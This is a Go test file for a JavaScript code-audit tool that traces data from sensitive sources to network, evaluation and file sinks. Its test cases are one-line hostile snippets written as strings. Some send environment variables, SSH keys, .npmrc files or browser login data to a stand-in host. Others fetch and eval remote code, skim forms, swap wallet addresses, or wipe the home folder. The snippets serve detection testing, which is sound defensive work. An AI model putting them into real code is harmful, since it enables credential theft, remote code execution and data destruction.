package chain

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/amalfi-audit/audit/internal/javascript"
)

// link summarises files given as path and content in turn, and joins them.
func link(files ...string) []Chain {
	summaries := make(map[string][]*Summary)
	for i := 0; i < len(files); i += 2 {
		f := javascript.Parse(files[i], []byte(files[i+1]), javascript.Options{})
		concerned := Tells(f)
		for u := range f.Uses() {
			concerned = concerned || Concerns(f, &u)
		}
		if !concerned {
			continue
		}
		if s := Summarise(f, f.Position); s != nil {
			summaries[files[i]] = append(summaries[files[i]], s)
		}
	}
	return Link(summaries)
}

// ways renders chains as "source > sink", each once.
func ways(chains []Chain) []string {
	var out []string
	for i := range chains {
		out = append(out, string(chains[i].Source)+" > "+string(chains[i].Sink))
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestChains(t *testing.T) {
	const sent = "environment > request"
	for _, test := range []struct {
		name string
		text string
		want string // joined by ", "
	}{
		{"at once", "fetch('https://h.invalid', {method: 'POST', body: JSON.stringify(process.env)})", sent},
		{"by names", "const https = require('https'); const e = process.env, s = Buffer.from(JSON.stringify(e)).toString('hex'); const r = https.request('https://h.invalid'); r.write(s); r.end()", sent},
		{"destructured", "const {env: v} = process; fetch('https://h.invalid?' + Object.entries(v))", sent},
		{"by a helper", "function send(x) { fetch('https://h.invalid', {body: x}) } function pack(o) { return JSON.stringify(o) } send(pack(process.env))", sent},
		{"by a callback", "function each(o, cb) { cb(Object.values(o)) } each(process.env, v => fetch('https://h.invalid/' + v))", sent},
		{"by a promise", "new Promise(done => done(process.env)).then(JSON.stringify).then(s => fetch('https://h.invalid/' + s))", sent},
		{"await", "async function f() { const s = await g(process.env); await fetch('https://h.invalid/' + s) } f()", sent},
		{"a generator", "function* parts(s) { yield s.slice(1) } for (const p of parts(JSON.stringify(process.env))) require('dns').lookup(p + '.h.invalid', () => {})", "environment > name lookup"},
		{"a class", "class C { constructor() { this.d = process.env } go() { fetch('https://h.invalid', {body: this.text()}) } text() { return JSON.stringify(this.d) } } new C().go()", sent},
		{"a list", "const all = []; all.push(process.env); fetch('https://h.invalid', {body: all})", sent},
		{"a command", "require('child_process').execSync('curl -d ' + JSON.stringify(process.env) + ' https://h.invalid')", sent},
		{"a file", "const fs = require('fs'), os = require('os'); fetch('https://h.invalid', {body: fs.readFileSync(os.homedir() + '/.npmrc')})", "credential file > request"},
		{"files of a list", "const fs = require('fs'); for (const n of ['.netrc', '.npmrc']) fetch('https://h.invalid', {body: fs.readFileSync(process.env.HOME + '/' + n)})", "credential file > request"},
		{"evaluated", "fetch('https://h.invalid/x.js').then(r => r.text()).then(t => eval(t))", "remote content > evaluation"},
		{"written and run", "const fs = require('fs'), cp = require('child_process'), p = '/tmp/x'; require('https').get('https://h.invalid', r => r.pipe(fs.createWriteStream(p))); cp.exec(p)", "remote content > file, remote content > file that is run"},
		{"deciphered", "const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', k, v); new Function(d.update(x, 'hex', 'utf8') + d.final('utf8'))()", "deciphered text > evaluation"},
		{"a key", "const c = require('crypto'); exports.sign = (privateKey, m) => { fetch('https://h.invalid', {headers: {id: privateKey}}); return c.sign(null, m, privateKey) }", "key material > request"},
		{"a form", "document.addEventListener('submit', e => navigator.sendBeacon('https://h.invalid', new FormData(e.target)))", "form field > request"},
		{"a shell profile", "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", "text of the package > start-up file"},
		{"itself", "require('fs').unlinkSync(__filename)", "text of the package > own files"},

		{"a path that is handed on", "const fs = require('fs'); const take = (...names) => names.map(n => fs.readFileSync(home + n)); fetch('https://h.invalid', {body: take('/.ssh/id_rsa').join()})", "credential file > request"},
		{"a path in a list", "const fs = require('fs'); const all = ['discord/leveldb', 'x']; all.flatMap(d => fs.readdirSync(d).map(n => d + n)).forEach(f => fs.readFile(f, (e, t) => fetch('https://h.invalid?' + t)))", "credential file > request"},
		{"a copy", "const fs = require('fs'), D = require('better-sqlite3'); to = dir + 'x'; fs.copyFileSync(dir + '/Login Data', to); fetch('https://h.invalid', {body: new D(to).prepare('x').all()})", "credential file > request"},
		{"a path that is sent itself", "fetch('https://h.invalid/docs/.ssh/id_rsa')", ""},
		{"a path of which the name is read", "const fs = require('fs'); if (fs.existsSync(home + '/.ssh/id_rsa')) fetch('https://h.invalid/' + fs.readFileSync('x'))", ""},
		{"a bound method", "const fs = require('fs'), cp = require('child_process'), all = [], p = '/tmp/x'; require('https').get('https://h.invalid', r => r.on('data', all.push.bind(all))); fs.writeFileSync(p, all); cp.execFile(p)", "remote content > file, remote content > file that is run"},
		{"a mixed text", "let s = ''; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ k[i % 7]); eval(s)", "deciphered text > evaluation, decoded text > evaluation"},
		{"a data URL", "crypto.subtle.decrypt(a, k, d).then(out => import('data:text/javascript,' + new TextDecoder().decode(out)))", "deciphered text > evaluation"},
		{"a module of a name in a function", "function f() { /*child_process~execSync*/ } const [m, x] = f.toString().slice(17, -3).split('~'); require(m)[x](c)", "text of its own code > name of what is called"},
		{"the names of parameters", "exports.inject = f => f(...f.toString().split('(')[1].split(')')[0].split(',').map(n => services[n]))", ""},
		{"addresses", "const old = window.fetch; window.fetch = (u, o) => old(u, {...o, body: o.body.replace(/0x[a-f0-9]{40}/gi, '0x00000000000000000000000000000000000000aa')})", "wallet address > replacement"},
		{"an address that is shown", "const a = '0x00000000000000000000000000000000000000aa'; document.title = a.slice(0, 6)", ""},
		{"headers", "const vm = require('vm'); module.exports = (q, r, next) => { vm.runInThisContext(Buffer.from(q.headers['x-a'], 'hex').toString()); next() }", "decoded text > evaluation, incoming request > evaluation"},
		{"what is used as a key", "const c = require('crypto'); exports.a = (x, m) => { fetch('https://h.invalid', {headers: {id: x}}); return c.createHmac('sha256', x).update(m).digest() }", "key material > request"},
		{"an object with a key in it", "const c = require('crypto'); exports.a = (o, m) => { fetch(o.url); return c.createHmac('sha256', o.key).update(m).digest() }", ""},
		{"files of the user", "const fs = require('fs'), os = require('os'); if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'X') for (const n of fs.readdirSync(os.homedir())) fs.rmSync(os.homedir() + '/' + n, {recursive: true})", "home folder > removed files"},
		{"a file of the package", "const fs = require('fs'), os = require('os'); console.log(os.homedir()); fs.rmSync('build', {recursive: true})", ""},
		{"its own name", "require('dns').lookup(require('os').hostname(), f)", ""},
		{"its own name in another", "require('dns').lookup(require('os').hostname() + '.h.invalid', f)", "identity > name lookup"},
		{"members of the environment", "const {PATH, HOME = ''} = process.env; fetch('https://h.invalid/' + PATH)", ""},

		{"a variable", "fetch(process.env.API_URL)", ""},
		{"a test", "if (process.env) fetch('https://h.invalid')", ""},
		{"the environment of a child", "require('child_process').spawn('node', ['x'], {env: process.env})", ""},
		{"a signature", "const c = require('crypto'); exports.sign = (privateKey, m) => fetch('https://h.invalid', {body: c.sign(null, m, privateKey)})", ""},
		{"a hash", "const c = require('crypto'), os = require('os'); fetch('https://h.invalid', {body: c.createHash('sha256').update(os.hostname()).digest('hex')})", ""},
		{"another value", "const e = process.env, x = 'a'; fetch('https://h.invalid', {body: x})", ""},
		{"printed", "console.log(process.env); fetch('https://h.invalid')", ""},
		{"the global object", "document; globalThis.call(window, 1); window(process.env); globalThis.apply(this, [2])", ""},
		{"a comment", "/* fetch('https://h.invalid', {body: process.env}) */", ""},
	} {
		if got := strings.Join(ways(link("a.js", test.text)), ", "); got != test.want {
			t.Errorf("%s: %q, want %q\n%s", test.name, got, test.want, test.text)
		}
	}
}

func TestLink(t *testing.T) {
	got := link(
		"index.js", "const {take} = require('./lib/take'); const send = require('./lib/send'); send(require('./lib/pack')(take()))",
		"lib/take.js", "exports.take = () => process.env",
		"lib/pack.js", "module.exports = x => Buffer.from(JSON.stringify(x)).toString('base64')",
		"lib/send.js", "const https = require('https');\nmodule.exports = function (s) {\n  https.request('https://h.invalid').end(s);\n}",
	)
	if len(got) != 1 {
		t.Fatalf("%d chains: %v", len(got), got)
	}
	c := got[0]
	if c.Source != Environment || c.Sink != Request || c.From != "process.env" || c.To != "https#request.().end" {
		t.Errorf("chain %+v", c)
	}
	var places []string
	for _, s := range c.Steps {
		places = append(places, fmt.Sprintf("%s:%d", s.Path, s.Line))
	}
	for _, i := range []int{0, len(c.Steps) - 1} {
		if c.Steps[i].Text == "" {
			t.Errorf("step %d has no text: %+v", i, c.Steps)
		}
	}
	if places[0] != "lib/take.js:1" || places[len(places)-1] != "lib/send.js:3" || !slices.Contains(places, "index.js:1") {
		t.Errorf("steps %v", places)
	}
	if again := link("lib/send.js", "x", "index.js", "y"); len(again) != 0 {
		t.Errorf("chains of nothing: %v", again)
	}
}

// TestStepText: what is cut of a line is marked, and a cut line begins with a
// whole name where that is near.
func TestStepText(t *testing.T) {
	long := strings.Repeat("x", 500)
	for name, test := range map[string]struct {
		code, begin, end string
	}{
		"whole":         {"a();\nfetch('https://h.invalid', {body: process.env})\nb()", "fetch(", ".env})"},
		"before":        {"const first = 1; JSON.stringify(0); fetch('https://h.invalid', {body: process.env})\nb()", "…stringify(0);", "process.env})"},
		"in a name":     {"var " + long + " = process.env;\nfetch('https://h.invalid', {body: " + long + "})", "…" + strings.Repeat("x", 57) + " = p", "env;"},
		"after":         {"fetch('https://h.invalid', {body: process.env}); /* " + long + " */", "fetch(", "x…"},
		"beyond ASCII":  {"/*" + strings.Repeat("é", 300) + "*/ fetch('https://h.invalid', {body: process.env}) /*" + strings.Repeat("é", 300) + "*/", "…é", "é…"},
		"at the margin": {strings.Repeat("z", 40) + ";\nfetch('https://h.invalid', {body: process.env})", "fetch(", ".env})"},
	} {
		t.Run(name, func(t *testing.T) {
			chains := link("a.js", test.code)
			if len(chains) == 0 {
				t.Fatal("no chain")
			}
			text := chains[0].Steps[0].Text
			if !strings.HasPrefix(text, test.begin) || !strings.HasSuffix(text, test.end) || len(text) > MaxText || !utf8.ValidString(text) {
				t.Errorf("%d bytes %q, want %q … %q", len(text), text, test.begin, test.end)
			}
		})
	}
}

// hostile are programs that are to end within the bounds.
func hostile() map[string]string {
	var aliases strings.Builder
	aliases.WriteString("const a0 = process.env;\n")
	for i := 1; i < 100_000; i++ {
		fmt.Fprintf(&aliases, "const a%d = a%d;", i, i-1)
	}
	var all strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&all, "function f%d(x) { return f%d(x) + f%d(x) } f%d(process.env); fetch('https://h.invalid', {body: f%d});", i, (i+1)%2000, (i*7)%2000, i, i)
	}
	var members strings.Builder
	members.WriteString("const o = {}; const f = () => fetch('https://h.invalid', {body: o});\n")
	for i := range 200 {
		fmt.Fprintf(&members, "o.m%d =\n process.env;\n", i)
	}
	return map[string]string{
		"members":   members.String(),
		"aliases":   aliases.String() + "fetch('https://h.invalid', {body: a99999})",
		"calls":     all.String(),
		"recursion": "function f(g) { return g(f)(g(process.env)) } f(f); fetch(f(f(f)))",
		"wide":      "const x = [" + strings.Repeat("process.env,", 50_000) + "]; for (const y of x) fetch(y)",
		"deep":      "fetch(" + strings.Repeat("f(", 3000) + "process.env" + strings.Repeat(")", 3000) + ")",
	}
}

func TestHostile(t *testing.T) {
	for name, text := range hostile() {
		first := link("a.js", text)
		if diff := cmp.Diff(first, link("a.js", text)); diff != "" {
			t.Errorf("%s: a second run differs:\n%s", name, diff)
		}
		if len(first) > MaxChains {
			t.Errorf("%s: %d chains", name, len(first))
		}
	}
	// Modules that load each other.
	var files []string
	for i := range 300 {
		files = append(files, fmt.Sprintf("f%d.js", i), fmt.Sprintf("const n = require('./f%d'); module.exports = x => x || n(x); n(process.env); fetch(n(1))", (i+1)%300))
	}
	if got := ways(link(files...)); !slices.Equal(got, []string{"environment > request"}) {
		t.Errorf("a ring of modules: %v", got)
	}
}

func FuzzSummarise(f *testing.F) {
	for _, seed := range []string{
		"fetch('https://h.invalid', {body: process.env})", "const {a: [b]} = process.env; for (const x of b) eval(x)",
		"exports.f = function* (x) { yield* x }; class C { #p; get q() { return this.#p } set q(v) { this.#p = v } }",
		"document.addEventListener('input', async ({target: {value}}) => { new Image().src = await value })",
		"module.exports = {a, b() {}, ...c}; export default (x) => import(x)", "a?.b?.(c)[d] ??= e", "new Promise(r => r(r))", "globalThis.call(window, fetch)(this)",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 20_000 {
			return
		}
		first := link("a.js", text, "b.js", "const a = require('./a'); fetch(a.f(process.env))")
		for _, c := range first {
			if len(c.Steps) == 0 || len(c.Steps) > MaxSteps {
				t.Fatalf("%d steps", len(c.Steps))
			}
			for _, s := range c.Steps {
				if s.Path == "" || s.Line < 1 || s.Column < 1 || len(s.Text) > MaxText {
					t.Fatalf("step %+v", s)
				}
			}
		}
		if diff := cmp.Diff(first, link("a.js", text, "b.js", "const a = require('./a'); fetch(a.f(process.env))")); diff != "" {
			t.Fatal(diff)
		}
	})
}

// TestCalledModules has modules that are called themselves, which those of
// Node.js are not.
func TestCalledModules(t *testing.T) {
	for _, module := range []string{"os", "fs", "fs/promises", "http", "https", "dns", "net", "tls", "child_process", "crypto", "zlib", "vm", "module", "process",
		"worker_threads", "axios", "got", "clipboardy", "rimraf", "execa", "ethers", "web3", "npm", "sqlite3", "better-sqlite3"} {
		for _, text := range []string{"const m = require('%s'); m(); m()(); new m(); m.a; m`x`; m?.()", "import * as m from '%s'; m(); m.default(); m[m]()", "import m from '%s'; m(process.env); m[0](m)"} {
			link("a.js", fmt.Sprintf(text, module)) // must not panic
		}
	}
}
